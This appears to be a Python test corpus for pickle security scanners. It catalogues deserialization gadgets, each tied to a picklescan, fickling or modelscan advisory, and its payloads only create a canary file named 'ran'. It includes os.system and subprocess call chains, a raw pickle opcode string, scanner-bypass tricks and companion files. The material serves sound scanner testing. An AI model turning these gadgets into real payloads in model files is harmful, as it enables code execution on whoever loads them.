"""The calls of the corpus: what a malicious file makes its reader run, each named by who reported it.

Every payload touches a file called `ran` in the working folder, and does nothing else.
"""

from __future__ import annotations

import marshal

from corpus_streams import Build, Call, Items, Name, New, call

CODE = "open('ran','w').close()"
EXPRESSION = "__import__('os').system('touch ran')"
COMMAND = "touch ran"
WORDS = ["touch", "ran"]
SYSTEM = Name("os", "system")
PLAIN = Call(SYSTEM, (COMMAND,))
INNER = b"cos\nsystem\n(S'touch ran'\ntR."
EMPTY = call("types", "SimpleNamespace")
GHSA = "picklescan GHSA"
FICKLING = "fickling"
CALLBACK = "call arguments"
CVE_2026 = "picklescan CVE-2026-56304, CVE-2026-56315 and their GHSAs"


def module(name: str) -> Call:
    """Return a module, imported while the stream is read."""
    return call("importlib", "import_module", name)


def fetched(what: object, name: str) -> Call:
    """Return an attribute."""
    return call("builtins", "getattr", what, name)


def joined(*parts: str) -> Call:
    """Return a string that is put together while the stream is read."""
    return Call(fetched(Name("builtins", "str"), "join"), ("", list(parts)))


def with_state(what: object, **state: object) -> Build:
    """Return an object with attributes."""
    return Build(what, (dict(state),))


_CODE_OBJECT = marshal.dumps(compile(CODE, "x", "exec"))
_FUNCTION = call("types", "FunctionType", call("marshal", "loads", _CODE_OBJECT), {})

GADGETS: list[tuple[str, str, object]] = [
    # picklescan: named advisories.
    ("pip.main", "CVE-2025-1716", call("pip", "main", ["cache", "dir", "--log", "ran", "-q"])),
    ("pip internal main", "GHSA-655q-fx9r-782v", call("pip._internal.cli.main", "main", ["cache", "dir", "--log", "ran"])),
    ("torch.load of another file", "CVE-2025-1889", call("torch.serialization", "load", "other.bin")),
    ("asyncio transport", "CVE-2025-10157", call("asyncio.unix_events", "_UnixSubprocessTransport._start", EMPTY, WORDS, False, None, None, None, 0)),
    ("asyncio subprocess", "CVE-2025-10157", call("asyncio", "run", call("asyncio.subprocess", "create_subprocess_shell", COMMAND))),
    ("pkgutil.resolve_name", "GHSA-vvpj-8cmc-gx39", Call(call("pkgutil", "resolve_name", "os:system"), (COMMAND,))),
    ("operator.methodcaller", "GHSA-m273-6v24-x4m4", Call(call("operator", "methodcaller", "system", COMMAND), (module("os"),))),
    ("_operator.methodcaller", "GHSA-m273-6v24-x4m4", Call(call("_operator", "methodcaller", "system", COMMAND), (module("os"),))),
    ("operator.attrgetter", "GHSA-955r-x9j8-7rhh", Call(Call(call("operator", "attrgetter", "system"), (module("os"),)), (COMMAND,))),
    ("operator.itemgetter", "GHSA-955r-x9j8-7rhh", Call(Call(call("operator", "itemgetter", "eval"), (Name("numpy", "__builtins__"),)), (CODE,))),
    ("operator.call", "GHSA-955r-x9j8-7rhh", call("operator", "call", SYSTEM, COMMAND)),
    ("numpy.f2py getlincoef", CVE_2026, call("numpy.f2py.crackfortran", "getlincoef", EXPRESSION, {})),
    ("numpy.f2py myeval", CVE_2026, call("numpy.f2py.crackfortran", "myeval", EXPRESSION, {}, {})),
    ("numpy.f2py _eval_length", CVE_2026, call("numpy.f2py.crackfortran", "_eval_length", EXPRESSION, {})),
    ("numpy.f2py param_eval", CVE_2026, call("numpy.f2py.crackfortran", "param_eval", EXPRESSION, {}, {})),
    ("numpy.testing runstring", CVE_2026, call("numpy.testing._private.utils", "runstring", CODE, {})),
    ("distutils write_file", CVE_2026, call("distutils.file_util", "write_file", "ran", ["x"])),
    ("distutils spawn", CVE_2026, call("distutils.spawn", "spawn", WORDS)),
    ("cProfile.run", CVE_2026, call("cProfile", "run", CODE, "stats")),
    ("cProfile.runctx", CVE_2026, call("cProfile", "runctx", CODE, {}, {}, "stats")),
    ("profile.run", "GHSA-46h3-79wf-xr6c", call("profile", "run", CODE, "stats")),
    ("profile.Profile.run", "GHSA-46h3-79wf-xr6c", call("profile", "Profile.run", call("profile", "Profile"), CODE)),
    ("profile.Profile.runctx", "GHSA-46h3-79wf-xr6c", call("profile", "Profile.runctx", call("profile", "Profile"), CODE, {}, {})),
    ("pty.spawn", CVE_2026, call("pty", "spawn", WORDS)),
    ("ctypes.CDLL", CVE_2026, Call(fetched(call("ctypes", "CDLL", None), "system"), (b"touch ran",))),
    ("ctypes.PyDLL", CVE_2026, Call(fetched(call("ctypes", "PyDLL", None), "system"), (b"touch ran",))),
    ("_ctypes.dlopen", CVE_2026, call("_ctypes", "call_function", call("_ctypes", "dlsym", call("_ctypes", "dlopen", None, 2), "system"), (b"touch ran",))),
    ("logging.FileHandler", CVE_2026, call("logging", "FileHandler", "ran")),
    ("logging.handlers rotating", CVE_2026, call("logging.handlers", "RotatingFileHandler", "ran")),
    ("logging.config.dictConfig", CVE_2026, call("logging.config", "dictConfig", {"version": 1, "handlers": {"h": {"()": "ext://os.system", "command": COMMAND}}})),
    ("logging.config factory", CVE_2026, call("logging.config", "BaseConfigurator.configure_custom", call("logging.config", "BaseConfigurator", {}), {"()": "os.system", "command": COMMAND})),
    ("uuid command", CVE_2026, call("uuid", "_get_command_stdout", "touch", "ran")),
    ("imaplib stream", CVE_2026, call("imaplib", "IMAP4_stream", COMMAND)),
    ("idlelib get_entity", "GHSA-r8g5-cgf2-4m4m", call("idlelib.autocomplete", "AutoComplete.get_entity", EMPTY, CODE)),
    ("idlelib calltip", "GHSA-r8g5-cgf2-4m4m", call("idlelib.calltip", "get_entity", CODE)),
    ("idlelib fetch_completions", "GHSA-r8g5-cgf2-4m4m", call("idlelib.autocomplete", "AutoComplete.fetch_completions", with_state(EMPTY, get_entity=Name("builtins", "eval"), editwin=None), CODE, 1)),
    ("idlelib runcode", "GHSA-r8g5-cgf2-4m4m", call("idlelib.run", "Executive.runcode", with_state(EMPTY, locals={}), CODE)),
    ("lib2to3 Grammar.loads", "GHSA-r8g5-cgf2-4m4m", call("lib2to3.pgen2.grammar", "Grammar.loads", call("lib2to3.pgen2.grammar", "Grammar"), INNER)),
    ("lib2to3 make_label", "GHSA-r8g5-cgf2-4m4m", call("lib2to3.pgen2.pgen", "ParserGenerator.make_label", EMPTY, with_state(EMPTY, labels=[], symbol2number={}, tokens={}, keywords={}), f"'' + str({EXPRESSION})")),
    ("torch collect_env.run", "modelscan #338", call("torch.utils.collect_env", "run", COMMAND)),
    ("torch execWrapper", CVE_2026, call("torch.jit.unsupported_tensor_ops", "execWrapper", CODE, {}, {})),
    ("torch GuardBuilder.get", CVE_2026, call("torch._dynamo.guards", "GuardBuilder.get", with_state(EMPTY, scope={}), CODE)),
    ("torch ShapeEnv", CVE_2026, call("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", EMPTY, CODE, [])),
    ("torch config module", CVE_2026, call("torch.utils._config_module", "ConfigModule.load_config", with_state(EMPTY, _config={}), INNER)),
    ("torch bottleneck", CVE_2026, call("torch.utils.bottleneck.__main__", "run_cprofile", CODE, {})),
    ("torch benchmark timer", CVE_2026, call("torch.utils.benchmark.utils.timer", "timeit.timeit", CODE, "pass", Name("time", "time"), 1)),
    ("torch testing exec", CVE_2026, call("torch.testing._internal.jit_utils", "execWrapper", CODE, {}, {})),
    ("torch fx exec", CVE_2026, call("torch.fx.graph_module", "_exec_with_source", CODE, {})),
    ("torch inductor codecache", CVE_2026, call("torch._inductor.codecache", "PyCodeCache.load", CODE)),
    ("torch hub", CVE_2026, call("torch.hub", "load", ".", "ran", "local")),
    ("code.InteractiveInterpreter", GHSA, call("code", "InteractiveInterpreter.runcode", call("code", "InteractiveInterpreter"), CODE)),
    ("code runsource", GHSA, call("code", "InteractiveInterpreter.runsource", call("code", "InteractiveInterpreter"), CODE)),
    ("timeit.timeit", "GHSA-v7x6-rv5q-mhwc", call("timeit", "timeit", CODE, "pass", Name("time", "time"), 1)),
    ("trace.Trace.run", "GHSA-4675-36f9-wf6r", call("trace", "Trace.run", call("trace", "Trace", 0, 0), CODE)),
    ("trace.Trace.runctx", "GHSA-4675-36f9-wf6r", call("trace", "Trace.runctx", call("trace", "Trace", 0, 0), CODE)),
    ("bdb.Bdb.run", "GHSA-4675-36f9-wf6r", call("bdb", "Bdb.runctx", with_state(EMPTY, runcall=None, run=Name("builtins", "exec")), CODE, {}, {})),
    ("pdb.run", "GHSA-4675-36f9-wf6r", call("pdb", "run", CODE)),
    ("doctest.debug_script", "GHSA-4675-36f9-wf6r", call("doctest", "debug_script", CODE)),
    ("ensurepip", "GHSA-xp4f-hrf8-rxw7", call("ensurepip", "_run_pip", ["cache", "dir", "--log", "ran"], [])),
    ("venv", "GHSA-vqmv-47xg-9wpr", call("venv", "create", "ran")),
    ("http connection", "GHSA-hgrh-qx5j-jfwx", fetched(call("http.client", "HTTPConnection", "127.0.0.1", 9), "connect")),
    ("pickle.loads of a string", "GHSA-84r2-jw7c-4r5q", call("pickle", "loads", INNER)),
    ("_pickle.loads of a string", "GHSA-84r2-jw7c-4r5q", call("_pickle", "loads", INNER)),
    # fickling.
    ("marshal and types", f"{FICKLING}: marshal/types", Call(_FUNCTION)),
    ("types.CodeType", f"{FICKLING}: marshal/types", Call(call("types", "FunctionType", call("types", "CodeType", 0, 0, 0, 0, 1, 0, b"\x97\x00d\x00S\x00", (None,), (), (), "x", "x", "x", 1, b"", b""), {}))),
    ("runpy.run_path", f"{FICKLING}: runpy", call("runpy", "run_path", "other.py")),
    ("runpy._run_code", f"{FICKLING}: runpy", call("runpy", "_run_code", call("marshal", "loads", _CODE_OBJECT), {})),
    ("_posixsubprocess", f"{FICKLING}: private stdlib modules", call("_posixsubprocess", "fork_exec", [b"touch", b"ran"], [b"/usr/bin/touch"], True, (), None, None, -1, -1, -1, -1, -1, -1, 1, 2, False, False, -1, None, None, None, -1, None, False)),
    ("_io.open", f"{FICKLING}: private stdlib modules", call("_io", "open", "ran", "w")),
    ("_io.FileIO", f"{FICKLING}: private stdlib modules", call("_io", "FileIO", "ran", "w")),
    ("_pyio.open", f"{FICKLING}: private stdlib modules", call("_pyio", "open", "ran", "w")),
    ("posix.system", f"{FICKLING}: private stdlib modules", call("posix", "system", COMMAND)),
    ("posix.open", f"{FICKLING}: private stdlib modules", call("posix", "open", "ran", 65)),
    ("_frozen_importlib", f"{FICKLING}: private stdlib modules", Call(fetched(call("_frozen_importlib", "__import__", "os"), "system"), (COMMAND,))),
    ("_imp", f"{FICKLING}: private stdlib modules", Call(fetched(call("_imp", "init_frozen", "os"), "system"), (COMMAND,))),
    ("_sqlite3", f"{FICKLING}: private stdlib modules", call("_sqlite3", "connect", "ran")),
    ("cloudpickle's builder", FICKLING, call("joblib.externals.cloudpickle.cloudpickle", "subimport", "os")),
    # modelscan.
    ("numpy.__builtins__", "modelscan #330", Call(call("operator", "getitem", Name("numpy", "__builtins__"), "eval"), (CODE,))),
    ("numpy function patched to reach builtins", "modelscan #330", Call(Call(Build(Name("numpy", "size"), (({}, {"__wrapped__": 1}),)), ([1],)), ())),
    ("module and names put together", "modelscan #331", Call(fetched(module(joined("o", "s")), joined("sys", "tem")), (COMMAND,))),
    ("import_module", "modelscan #331", Call(fetched(module("os"), "system"), (COMMAND,))),
    ("spawnv_passfds", "modelscan #338", call("multiprocessing.util", "spawnv_passfds", b"/usr/bin/touch", WORDS, ())),
    ("mlflow entry point", "modelscan #338", call("mlflow.projects.backend.local", "_run_entry_point", COMMAND, ".", "", "")),
    ("pandas read_csv", "modelscan #338", call("pandas.io.parsers.readers", "read_csv", "other.csv")),
    ("urllib", "modelscan #338", call("urllib.request", "urlopen", "file:///dev/null")),
    ("ctypes by name", "modelscan #354", Call(fetched(call("ctypes", "cdll.LoadLibrary", "libc.so.6"), "system"), (b"touch ran",))),
    ("socket", "modelscan #354", call("socket", "create_connection", ("127.0.0.1", 9))),
    ("shutil.copy", "modelscan #354", call("shutil", "copyfile", "/dev/null", "ran")),
    ("webbrowser", "modelscan #354", Call(fetched(call("webbrowser", "GenericBrowser", "touch"), "open"), ("ran",))),
    # What everybody knows, by all its names.
    ("os.system", "classic", PLAIN),
    ("os.popen", "classic", call("os", "popen", COMMAND)),
    ("os.spawnlp", "classic", call("os", "spawnlp", 0, "touch", "touch", "ran")),
    ("os.mkdir", "classic", call("os", "mkdir", "ran")),
    ("subprocess.Popen", "classic", call("subprocess", "Popen", WORDS)),
    ("subprocess.check_output", "classic", call("subprocess", "check_output", WORDS)),
    ("subprocess.getoutput", "classic", call("subprocess", "getoutput", COMMAND)),
    ("builtins.eval", "classic", call("builtins", "eval", CODE)),
    ("builtins.exec", "classic", call("builtins", "exec", CODE)),
    ("__builtin__.eval", "classic", call("builtins", "eval", EXPRESSION)),
    ("builtins.open", "classic", call("builtins", "open", "ran", "w")),
    ("compile and exec", "classic", call("builtins", "exec", call("builtins", "compile", CODE, "x", "exec"))),
    ("codecs.open", "classic", call("codecs", "open", "ran", "w")),
    ("io.open_code", "classic", call("io", "open", "ran", "w")),
    ("sqlite3", "classic", call("sqlite3", "connect", "ran")),
    ("shelve", "classic", call("shelve", "open", "ran")),
    ("dbm", "classic", call("dbm.dumb", "open", "ran")),
    ("zipfile", "classic", call("zipfile", "ZipFile", "ran", "w")),
    ("tempfile", "classic", call("tempfile", "NamedTemporaryFile")),
    ("pathlib.Path.touch", "classic", call("pathlib", "Path.touch", call("pathlib", "PosixPath", "ran"))),
    ("commands of Python 2", "classic", call("commands", "getoutput", COMMAND)),
    ("sys.modules", "classic", Call(fetched(call("operator", "getitem", Name("sys", "modules"), "os"), "system"), (COMMAND,))),
    ("help", "classic", call("pydoc", "pipepager", "x", "cat > ran")),
    ("platform", "classic", call("platform", "_syscmd_file", "x")),
    ("weakref callback", "classic", Call(call("weakref", "finalize", Name("types", "SimpleNamespace"), SYSTEM, COMMAND))),
    ("thread", "classic", Call(fetched(call("threading", "Timer", 0, SYSTEM, [COMMAND]), "run"))),
    ("atexit", "classic", Items([], (call("atexit", "register", SYSTEM, COMMAND), call("atexit", "_run_exitfuncs")))),
    ("signal", "classic", call("signal", "signal", 14, SYSTEM)),
    ("concurrent futures", "classic", call("multiprocessing.pool", "mapstar", ((SYSTEM, [COMMAND]),))),
    ("site", "classic", call("site", "addpackage", ".", "other.pth", None)),
    # Arguments that make a harmless-looking call run something.
    ("map consumed by bytes", CALLBACK, New(Name("builtins", "bytes"), (New(Name("builtins", "map"), (SYSTEM, [COMMAND])),))),
    ("map consumed by extend", CALLBACK, call("collections", "deque", call("builtins", "map", SYSTEM, [COMMAND]))),
    ("functools.reduce", CALLBACK, call("functools", "reduce", Name("operator", "call"), [SYSTEM, COMMAND])),
    ("functools.partial called", CALLBACK, Call(call("functools", "partial", SYSTEM, COMMAND))),
    ("functools.partial by state", CALLBACK, Call(Build(call("functools", "partial", Name("builtins", "len")), ((SYSTEM, (COMMAND,), {}, None),)))),
    ("functools.cmp_to_key", CALLBACK, call("builtins", "max", call("builtins", "map", call("functools", "cmp_to_key", SYSTEM), [COMMAND, "true"]))),
    ("itertools.starmap", CALLBACK, call("collections", "deque", call("itertools", "starmap", SYSTEM, [(COMMAND,)]))),
    ("itertools.accumulate", CALLBACK, call("collections", "deque", call("itertools", "accumulate", [COMMAND, "x"], Name("builtins", "eval")))),
    ("filter", CALLBACK, call("builtins", "list", call("builtins", "filter", SYSTEM, [COMMAND]))),
    ("iter with sentinel", CALLBACK, call("builtins", "tuple", call("builtins", "iter", call("functools", "partial", SYSTEM, COMMAND), 0))),
    ("sorted by key", CALLBACK, Call(call("functools", "partial", Name("builtins", "sorted"), [COMMAND]))),
    ("defaultdict factory", CALLBACK, call("operator", "getitem", call("collections", "defaultdict", call("functools", "partial", SYSTEM, COMMAND)), "x")),
    ("defaultdict with a foreign factory", CALLBACK, call("collections", "defaultdict", SYSTEM)),
    ("copyreg reconstructor", CALLBACK, call("copyreg", "_reconstructor", Name("subprocess", "Popen"), Name("builtins", "object"), None)),
    ("copyreg pickle table", CALLBACK, call("copyreg", "pickle", Name("builtins", "int"), SYSTEM)),
    ("copyreg extension registry", CALLBACK, call("copyreg", "add_extension", "os", "system", 77)),
    ("copyreg newobj", CALLBACK, call("copyreg", "__newobj__", Name("builtins", "map"), SYSTEM, [COMMAND])),
    ("numpy.load", CALLBACK, call("numpy", "load", "other.npy", None, True)),
    ("numpy.lib loader", CALLBACK, call("numpy.lib.npyio", "load", "other.npy", None, True)),
    ("numpy.fromfile", CALLBACK, call("numpy", "fromfile", "other.npy")),
    ("numpy.memmap", CALLBACK, call("numpy", "memmap", "ran", "u1", "w+", 0, (1,))),
    ("numpy.save", CALLBACK, call("numpy", "savetxt", "ran", [1])),
    ("numpy.vectorize", CALLBACK, Call(call("numpy", "vectorize", SYSTEM), (COMMAND,))),
    ("numpy.frompyfunc", CALLBACK, Call(call("numpy", "frompyfunc", SYSTEM, 1, 1), (COMMAND,))),
    ("numpy.fromfunction", CALLBACK, call("numpy", "fromfunction", Name("builtins", "print"), (1,))),
    ("numpy.apply_along_axis", CALLBACK, call("numpy", "apply_along_axis", Name("builtins", "print"), 0, [1])),
    ("numpy ufunc by module", CALLBACK, call("numpy._core", "_ufunc_reconstruct", "antigravity", "x")),
    ("joblib.load", CALLBACK, call("joblib", "load", "other.bin")),
    ("joblib Parallel", CALLBACK, Call(call("joblib", "Parallel"), ([(SYSTEM, (COMMAND,), {})],))),
    ("joblib memory", CALLBACK, Call(Call(fetched(call("joblib.memory", "Memory", "ran"), "cache"), (SYSTEM,)), (COMMAND,))),
    ("joblib memorized result", CALLBACK, call("joblib.memory", "MemorizedResult", "ran", ("a", "b"))),
    ("joblib old wrapper", CALLBACK, Build(call("joblib.numpy_pickle_compat", "NDArrayWrapper", "other.npy", Name("numpy", "ndarray")))),
    ("joblib zipped wrapper", CALLBACK, call("joblib.numpy_pickle_compat", "ZNDArrayWrapper", "other.npy", (), {})),
    ("estimator that calls back", CALLBACK, with_state(New(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), func=SYSTEM, validate=False)),
    ("estimator that calls eval", CALLBACK, with_state(New(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), func=Name("builtins", "eval"))),
    ("vectoriser with a foreign analyser", CALLBACK, with_state(New(Name("sklearn.feature_extraction.text", "CountVectorizer")), analyzer=SYSTEM)),
    ("neighbours with a foreign metric", CALLBACK, with_state(New(Name("sklearn.neighbors._classification", "KNeighborsClassifier")), metric=SYSTEM)),
    ("metric object that calls back", CALLBACK, call("sklearn.metrics._dist_metrics", "PyFuncDistance64", SYSTEM)),
    ("scorer that calls back", CALLBACK, call("sklearn.metrics._scorer", "_Scorer", SYSTEM, 1, {}, "predict")),
    ("transformer called while read", CALLBACK, Call(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer.transform"), (with_state(New(Name("sklearn.preprocessing._function_transformer", "FunctionTransformer")), func=SYSTEM, validate=False, kw_args=None), COMMAND))),
    ("sklearn loader", CALLBACK, call("sklearn.datasets._base", "load_files", ".")),
    ("pandas.eval", CALLBACK, call("pandas.core.computation.eval", "eval", "1")),
    ("pandas.read_pickle", CALLBACK, call("pandas.io.pickle", "read_pickle", "other.bin")),
    ("DataFrame.to_csv", CALLBACK, call("pandas.core.generic", "NDFrame.to_csv", call("pandas.core.frame", "DataFrame"), "ran")),
    ("scipy distribution's text", CALLBACK, with_state(New(Name("scipy.stats._continuous_distns", "norm_gen")), _parse_arg_template=f"def _parse_args(self): pass\n{CODE}", badvalue=0, name="x")),
    ("xgboost reads a file", CALLBACK, call("xgboost.core", "Booster", None, (), "other.bin")),
    ("lightgbm reads a file", CALLBACK, call("lightgbm.basic", "Booster", None, None, "other.bin")),
    ("codec that nobody uses", CALLBACK, call("_codecs", "encode", "x", "idna")),
    ("getattr of a frame", CALLBACK, fetched(fetched(Name("numpy", "ndarray"), "__class__"), "__subclasses__")),
    ("setattr on a class", CALLBACK, call("builtins", "setattr", Name("sklearn.base", "BaseEstimator"), "predict", SYSTEM)),
    ("type with methods", CALLBACK, Call(call("builtins", "type", "x", (), {"__new__": SYSTEM}))),
    ("property", CALLBACK, call("builtins", "property", SYSTEM)),
    ("enum factory", CALLBACK, call("enum", "Enum", "x", {"a": 1}, )),
    ("namedtuple factory", CALLBACK, call("collections", "namedtuple", "x", "a b")),
    ("dataclass builder", CALLBACK, call("dataclasses", "make_dataclass", "x", [("a", f"{CODE}")])),
    ("typing evaluates text", CALLBACK, call("typing", "get_type_hints", with_state(EMPTY, __annotations__={"a": CODE}))),
    ("forward reference", CALLBACK, call("typing", "ForwardRef._evaluate", call("typing", "ForwardRef", EXPRESSION), {}, {}, Name("builtins", "frozenset"))),
    ("string template", CALLBACK, call("string", "Formatter.vformat", call("string", "Formatter"), "{0.__class__}", [1], {})),
    ("re scanner callback", CALLBACK, call("re", "sub", "x", SYSTEM, "x")),
    ("struct and memoryview", CALLBACK, call("builtins", "memoryview", b"x")),
    ("random seeded by state", CALLBACK, call("random", "_test")),
    ("heapq merge by key", CALLBACK, call("collections", "deque", call("heapq", "merge", [COMMAND], [COMMAND]))),
    ("BUILD makes a __setstate__", CALLBACK, Build(EMPTY, ({"__setstate__": SYSTEM}, COMMAND))),
    ("BUILD on a function", CALLBACK, Build(Name("sklearn.base", "clone"), ((None, {"__code__": call("marshal", "loads", _CODE_OBJECT)}),))),
    ("BUILD on a class", CALLBACK, Build(Name("sklearn.tree._classes", "DecisionTreeClassifier"), ((None, {"predict": SYSTEM}),))),
    ("BUILD on a module", CALLBACK, Build(module("os"), ({"path": 1},))),
    ("__reduce__ of a foreign object", CALLBACK, Call(fetched(Name("builtins", "object"), "__reduce_ex__"), (EMPTY, 2))),
    ("append is system", CALLBACK, Items(with_state(EMPTY, append=SYSTEM), (COMMAND,))),
    ("extend is system", CALLBACK, Items(with_state(EMPTY, extend=SYSTEM, append=SYSTEM), (COMMAND,))),
    ("exception-oriented: traceback frame", "exception-oriented gadgets", Call(fetched(call("traceback", "walk_tb", None), "close"))),
    ("exception-oriented: context manager", "exception-oriented gadgets", Call(fetched(call("contextlib", "ExitStack"), "callback"), (SYSTEM, COMMAND))),
    ("exception-oriented: exit stack closes", "exception-oriented gadgets", call("contextlib", "ExitStack.__exit__", Items(call("contextlib", "ExitStack")), None, None, None)),
    ("exception-oriented: excepthook", "exception-oriented gadgets", call("sys", "excepthook", None, None, None)),
    ("exception-oriented: unraisable", "exception-oriented gadgets", Build(module("sys"), ((None, {"excepthook": Name("builtins", "exec")}),))),
]  # fmt: skip

DOTTED: list[tuple[str, str, object]] = [
    ("through sklearn", f"{FICKLING}: dotted attribute", call("sklearn.utils._pprint", "inspect.os.system", COMMAND)),
    ("through random", f"{FICKLING}: dotted attribute", call("random", "_os.system", COMMAND)),
    ("through numpy", f"{FICKLING}: dotted attribute", call("numpy", "_core.multiarray.os.system", COMMAND)),
    ("through joblib", f"{FICKLING}: dotted attribute", call("joblib.numpy_pickle", "os.system", COMMAND)),
    ("through collections", f"{FICKLING}: dotted attribute", call("collections", "_sys.modules", COMMAND)),
    ("through a class's globals", f"{FICKLING}: dotted attribute", Call(call("operator", "getitem", Name("sklearn.base", "clone.__globals__"), "__builtins__"))),
    ("through subclasses", f"{FICKLING}: dotted attribute", Call(Name("builtins", "object.__subclasses__"))),
    ("through functools", f"{FICKLING}: dotted attribute", call("functools", "partial.__new__", Name("functools", "partial"), SYSTEM)),
    ("through enum", f"{FICKLING}: dotted attribute", Call(call("operator", "getitem", Name("enum", "bltns.__dict__"), "eval"), (CODE,))),
    ("through dataclasses", f"{FICKLING}: dotted attribute", call("dataclasses", "builtins.exec", CODE)),
    ("through typing", f"{FICKLING}: dotted attribute", call("typing", "sys.modules.get", "os")),
    ("through statistics", f"{FICKLING}: dotted attribute", call("statistics", "sys._getframe")),
    ("a class's method", f"{FICKLING}: dotted attribute", call("numpy", "ndarray.tofile", call("numpy", "zeros", 1), "ran")),
    ("a known estimator's method", f"{FICKLING}: dotted attribute", call("sklearn.tree._classes", "DecisionTreeClassifier.__init__.__globals__.get", "os")),
]  # fmt: skip

COMPANIONS: dict[str, bytes] = {
    "other.bin": INNER,
    "other.pkl": INNER,
    "other.py": CODE.encode(),
    "other.pth": f"import os; {CODE}\n".encode(),
    "other.csv": b"a\n1\n",
    "other.npy": b"\x93NUMPY\x01\x00v\x00"
    + b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117)
    + b"\n"
    + INNER,
    "hubconf.py": f"{CODE}\ndef ran(): return 1\n".encode(),
}
"""Files that lie beside the loaded one, for the payloads that make their reader load another."""
